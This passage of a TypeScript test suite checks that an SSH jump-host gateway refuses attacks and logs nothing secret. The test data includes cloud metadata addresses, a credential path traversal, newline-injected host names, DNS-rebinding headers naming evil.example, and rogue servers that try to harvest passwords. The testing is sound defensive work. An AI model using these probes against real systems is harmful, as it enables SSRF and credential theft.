  it("reaches a target address outside the rule's cidrs through an allowed jump host → 403 TargetNotAllowed, hop target, no dial", async () => {
    const o = await noDial(() => viaApi("v1", behind({ host: "10.0.6.7" }), JUMPER));
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "target"]);
    expect(o.body.error?.message).toContain("host 10.0.6.7 is not allowed");
  });

  it.each(["db.corp", "outside.corp", "10.0.5.7.nip.io"])(
    "reaches a DNS name %j behind an allowed jump host under cidrs-only rules → 403 TargetNotAllowed, hop target, nothing resolved, no dial",
    async (host) => {
      const o = await noDial(() => viaApi("v2", behind({ host }), JUMPER));
      expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "target"]);
      expect(o.body.error?.message).toContain("resolves its name");
    },
  );

  it("goes through a jump host no rule allows while the target is allowed → 403 TargetNotAllowed, hop via, no dial", async () => {
    const o = await noDial(() =>
      viaApi("v1", behind({}, { host: "192.0.2.10", port: 22 }), JUMPER),
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "via"]);
    expect(o.body.error?.message).toContain("via.host 192.0.2.10 is not allowed");
    const port = await noDial(() => viaApi("v1", behind({}, { port: sshd.port }), JUMPER));
    expect([port.status, port.name, hop(port)]).toEqual([403, "TargetNotAllowed", "via"]);
    expect(port.body.error?.message).toContain(`via.port ${sshd.port}`);
  });

  it("uses a host its rule allows as a target, not as a jump host → 403 TargetNotAllowed naming allowAsJumpHost, hop via, no dial", async () => {
    // "jump-net" allows 10.0.5.0/24 as targets; it does not set allowAsJumpHost.
    const o = await noDial(() =>
      viaApi("v1", behind({}, { host: "10.0.5.8", port: 22, credential: "default" }), JUMPER),
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "via"]);
    expect(o.body.error?.message).toContain("allowAsJumpHost");
  });

  it("resolves an allowed jump host name outside the rule's cidrs → 403 TargetNotAllowed, hop via, no dial, address not revealed", async () => {
    const [dials, resolved] = [rogue.connections(), lookups.length];
    const o = await viaApi("v1", behind({}, { host: "outside.corp" }), JUMPER);
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "via"]);
    expect(JSON.stringify(o.body)).not.toContain("10.0.6.7");
    // Resolved here (the jump host's own name), refused before the dial.
    expect(lookups.slice(resolved)).toEqual(["outside.corp"]);
    expect(rogue.connections()).toBe(dials);
  });

  it("pins its own server as the jump host (rule without allowRequestPins) → 403 TargetNotAllowed, hop via, no dial", async () => {
    const o = await noDial(
      () => viaApi("v1", behind({}, { hostKey: rogue.server.hostKeyLine }), JUMPER),
      true,
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "via"]);
    expect(o.body.error?.message).toContain("allowRequestPins");
  });

  it("pins its own server as the jump host with the production password (rule allows pins) → 403 CredentialNotAllowed, hop via, no dial", async () => {
    const o = await noDial(
      () =>
        viaApi(
          "v2",
          target({
            via: {
              host: "127.0.0.1",
              port: pinRogue.server.port,
              username: sshd.username,
              credential: "prod-root",
              hostKey: pinRogue.server.hostKeyFingerprint,
            },
          }),
          JUMP_PINNER,
        ),
      true,
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "CredentialNotAllowed", "via"]);
  });

  it("pins its own server as the target behind a jump host, with the production password → 403 CredentialNotAllowed, hop target, no dial", async () => {
    const o = await noDial(
      () =>
        viaApi(
          "v1",
          target({
            port: pinRogue.server.port,
            credential: "prod-root",
            hostKey: pinRogue.server.hostKeyLine,
            via: { host: "127.0.0.1", port: rogue.server.port, username: sshd.username },
          }),
          JUMP_PINNER,
        ),
      true,
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "CredentialNotAllowed", "target"]);
  });

  it("pins its own server as the jump host with a key (rule allows pins) to harvest the target's password → only the jump key's public half reaches it", async () => {
    const connections = pinRogue.connections();
    const o = await viaApi(
      "v1",
      target({
        credential: "prod-root",
        via: {
          host: "127.0.0.1",
          port: pinRogue.server.port,
          username: sshd.username,
          hostKey: pinRogue.server.hostKeyLine,
        },
      }),
      JUMP_PINNER,
    );
    // The rule allows this jump host, a pin and this key: the session dials it (the counter
    // works), the rogue refuses the key, and the target's password never leaves.
    expect(pinRogue.connections()).toBe(connections + 1);
    expect([o.status, o.name]).toEqual([502, "AuthFailed"]);
    expect(hop(o)).toBe("via");
    // One attempt, with the jump host's own key (via.credential "default"), as for any host.
    expect(pinRogue.attempts.length).toBe(1);
    const defaultKey = sshd.keys.ed25519.publicKey.split(" ")[1];
    for (const attempt of pinRogue.attempts) {
      expect(attempt.password).toBeUndefined();
      expect(attempt.method).toBe("publickey");
      expect(attempt.key).toBe(defaultKey);
    }
    expect(JSON.stringify(pinRogue.attempts)).not.toContain(sshd.password!);
  });

  it("names another rule's credential for the jump host → 403 CredentialNotAllowed, hop via, no dial", async () => {
    for (const credential of ["prod-root", "default"]) {
      // prod-root: PINNER's rule; default: granted by JUMPER's own "jump-net", not for this host.
      const o = await noDial(() => viaApi("v1", behind({}, { credential }), JUMPER));
      expect([o.status, o.name, hop(o)], credential).toEqual([403, "CredentialNotAllowed", "via"]);
      expect(o.body.error?.message).toContain(`via.credential ${JSON.stringify(credential)}`);
    }
  });

  it("names the jump host's credential for the target (allowed at the jump host, not at the target) → 403 CredentialNotAllowed, hop target, no dial", async () => {
    const o = await noDial(() => viaApi("v1", behind({ credential: "jump-key" }), JUMPER));
    expect([o.status, o.name, hop(o)]).toEqual([403, "CredentialNotAllowed", "target"]);
  });

  it.each(["169.254.169.254", "169.254.170.2", "0.0.0.0", "::ffff:169.254.169.254"])(
    "uses %s (deny list) as the jump host under an any-address rule → 403 TargetNotAllowed, hop via, no dial",
    async (address) => {
      const o = await noDial(() =>
        viaApi("v1", behind({}, { host: address, port: 22, credential: "default" }), WIDE),
      );
      expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "via"]);
      expect(o.body.error?.message).toContain("may not reach");
    },
  );

  it("uses a jump host name that resolves into the metadata endpoint → 403 TargetNotAllowed, hop via, address not revealed", async () => {
    const dials = rogue.connections();
    const o = await viaApi(
      "v2",
      behind({}, { host: "metadata.corp", port: 22, credential: "default" }),
      WIDE,
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "via"]);
    expect(JSON.stringify(o.body)).not.toContain("169.254");
    expect(rogue.connections()).toBe(dials);
  });

  it("reaches the metadata endpoint as the target behind an allowed jump host → 403 TargetNotAllowed, hop target, no dial", async () => {
    const o = await noDial(() =>
      viaApi(
        "v1",
        behind({ host: "169.254.169.254" }, { host: "10.0.9.9", port: 22, credential: "default" }),
        WIDE,
      ),
    );
    expect([o.status, o.name, hop(o)]).toEqual([403, "TargetNotAllowed", "target"]);
  });

  it.each([
    ["a control character in via.host", { host: "bastion\u0007.corp" }],
    ["a newline in via.host", { host: "bastion.corp\nforged" }],
    ["a space in via.username", { username: "root extra" }],
    ["an oversize via.host", { host: `${"a".repeat(250)}.corp` }],
    ["an oversize via.username", { username: "u".repeat(129) }],
    ["an oversize via.hostKey", { hostKey: `ssh-ed25519 ${"A".repeat(9_000)}` }],
    ["an oversize via.credential", { credential: "c".repeat(129) }],
    ["a via.credential walking out (../)", { credential: "jump-key/../prod-root" }],
    ["an unknown nested field via.command", { command: "id" }],
    ["an unknown nested field via.proxyJump", { proxyJump: "10.0.6.7" }],
    ["a malformed via.hostKey", { hostKey: "SHA256:not base64!" }],
  ])("sends %s → 400 ValidationError naming via, no dial", async (_what, via) => {
    const o = await noDial(() => viaApi("v1", behind({}, via), JUMPER));
    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
    expect(o.body.error?.message).toMatch(/via\./);
    expect(captured.audits.at(-1)?.error?.hop).toBe("via");
  });

  it.each([
    ["a string", "127.0.0.1"],
    ["an array", [{ host: "127.0.0.1", username: "u" }]],
    ["null", null],
    ["a number", 22],
  ])("sends via as %s → 400 ValidationError, no dial", async (_what, via) => {
    const o = await noDial(() => viaApi("v2", { ...behind(), via }, JUMPER));
    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
    expect(o.body.error?.message).toContain('"via"');
  });

  it("makes the jump host its own target (a loop) with a command only the target rule allows → 403 CommandNotAllowed, no dial", async () => {
    const o = await noDial(() =>
      viaApi("v1", { ...jumpRogue(), command: "uptime", via: jumpRogue() }, JUMPER),
    );
    expect([o.status, o.name]).toEqual([403, "CommandNotAllowed"]);
  });

  it("makes the jump host its own target (a loop) with the rule's own command → the jump host's key decides: 502 HostKeyMismatch, hop via, nothing sent", async () => {
    const dials = rogue.connections();
    const o = await viaApi("v1", { ...jumpRogue(), command: "true", via: jumpRogue() }, JUMPER);
    // Unlisted, and its key is revoked under another name: HostKeyMismatch.
    expect([o.status, o.name, hop(o)]).toEqual([502, "HostKeyMismatch", "via"]);
    // One dial (to the jump host), never a second hop to it; no credential offered.
    expect(rogue.connections()).toBe(dials + 1);
  });

  it("sends via attacks as a Step Functions task → the same refusals, hop in the payload, no dial", async () => {
    const workflowVia = (extra: Record<string, unknown> = {}) => ({
      host: "127.0.0.1",
      port: rogue.server.port,
      username: sshd.username,
      ...extra,
    });
    const cases: [Record<string, unknown>, string, string][] = [
      [target({ host: "10.0.6.7", port: 22, via: workflowVia() }), "TargetNotAllowed", "target"],
      [target({ via: workflowVia({ port: 2222 }) }), "TargetNotAllowed", "via"],
      [target({ via: workflowVia({ credential: "prod-root" }) }), "CredentialNotAllowed", "via"],
      [target({ via: workflowVia({ host: "169.254.169.254" }) }), "TargetNotAllowed", "via"],
      [
        target({ via: workflowVia({ hostKey: rogue.server.hostKeyLine }) }),
        "TargetNotAllowed",
        "via",
      ],
      [target({ via: workflowVia({ host: "bad\u0000host" }) }), "ValidationError", "none"],
    ];
    for (const [request, name, where] of cases) {
      // Only the pin refusal needs the credential's kind, so only it reads the store.
      const pinned = (request.via as { hostKey?: string }).hostKey !== undefined;
      const t = await noDial(() => viaTask(taskEvent(request)), pinned);
      expect(t.name, JSON.stringify(request.via)).toBe(name);
      const payload = t.payload as { error?: { hop?: string } };
      if (where !== "none") expect(payload.error?.hop, name).toBe(where);
    }
  });
});

describe("the local server: no web page can drive it", () => {
  const json = { "content-type": "application/json" };
  it("arrives through DNS rebinding (foreign Host) → 403", async () => {
    expect(
      await viaLocal({ ...json, host: "evil.example", [TOKEN_HEADER]: local.token }, target()),
    ).toBe(403);
  });
  it("arrives from a web page (Origin header) → 403", async () => {
    const host = `127.0.0.1:${local.port}`;
    expect(
      await viaLocal(
        { ...json, host, origin: "http://evil.example", [TOKEN_HEADER]: local.token },
        target(),
      ),
    ).toBe(403);
  });
  it("arrives without the per-run token → 401", async () => {
    expect(await viaLocal({ ...json, host: `127.0.0.1:${local.port}` }, target())).toBe(401);
  });
  it("guesses the token → 401", async () => {
    expect(
      await viaLocal(
        { ...json, host: `localhost:${local.port}`, [TOKEN_HEADER]: "x".repeat(32) },
        target(),
      ),
    ).toBe(401);
  });
  it("names an ungranted credential through the local server → 403", async () => {
    const status = await viaLocal(
      { ...json, host: `127.0.0.1:${local.port}`, [TOKEN_HEADER]: local.token },
      target({ credential: "prod-root" }),
    );
    expect(status).toBe(403);
  });
});

describe("audit: refusals are on the record", () => {
  it("sends a body that fails validation → the audit line keeps host, port, user, credential and command hash", async () => {
    const o = await viaApi("v1", { ...target({ credential: "prod-root" }), extra: true });
    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
    const line = captured.audits.at(-1)!;
    expect(line).toMatchObject({
      target: { host: "127.0.0.1", port: sshd.port, username: sshd.username },
      credential: "prod-root",
      error: { name: "ValidationError" },
    });
    expect(line.commandSha256).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe("across the whole suite", () => {
  it("the rogue server saw zero authentication attempts", () => {
    expect(rogue.attempts).toEqual([]);
    // prod, reached under a dev name resolving to its address: never a credential.
    expect(prodRogue.attempts).toEqual([]);
    // The second rogue: only the one jump host attack the policy allows (a pinned key) reached it.
    expect(pinRogue.attempts.map((attempt) => attempt.method)).toEqual(["publickey"]);
    // It was reached (HostKeyUnknown, HostKeyMismatch): the refusals happened at the key check.
    expect(rogue.connections()).toBeGreaterThan(0);
  });

  it("no secret byte appears in any log line, response or thrown error", () => {
    const secrets = [
      sshd.password!,
      WRONG_PASSPHRASE,
      sshd.keys.encrypted.passphrase,
      BROKEN_KEY_BODY,
      // A line from the middle of each real private key.
      sshd.keys.ed25519.privateKey.split("\n")[2]!,
      sshd.keys.encrypted.privateKey.split("\n")[2]!,
    ];
    const everything = [...captured.lines, ...seen].join("\n");
    expect(captured.lines.length).toBeGreaterThan(40);
    for (const secret of secrets) {
      expect(secret.length).toBeGreaterThan(8);
      expect(everything.includes(secret), `leaked ${secret.slice(0, 6)}…`).toBe(false);
    }
    expect(everything).not.toMatch(/-----BEGIN [A-Z ]*PRIVATE KEY-----/);
  });
});
